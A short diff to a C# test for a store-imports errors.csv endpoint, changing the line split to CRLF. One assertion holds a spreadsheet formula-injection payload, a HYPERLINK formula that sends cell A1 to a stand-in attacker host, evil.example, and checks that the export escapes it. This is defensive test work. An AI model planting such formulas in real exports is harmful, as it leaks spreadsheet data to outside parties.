@@ -17,7 +17,7 @@ public sealed class ImportEndpointsTests(AccountsApp app)
         using var response = await client.GetAsync(new Uri($"stores/{app.AlphaId}/imports/{app.AlphaImportId}/errors.csv", UriKind.Relative));
 
         Assert.Equal(HttpStatusCode.OK, response.StatusCode);
-        var lines = (await response.Content.ReadAsStringAsync()).Split('\n', StringSplitOptions.RemoveEmptyEntries);
+        var lines = (await response.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
         Assert.Equal(2, lines.Length);
         Assert.EndsWith(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1),add_to_cart,s1\"", lines[1], StringComparison.Ordinal);
     }
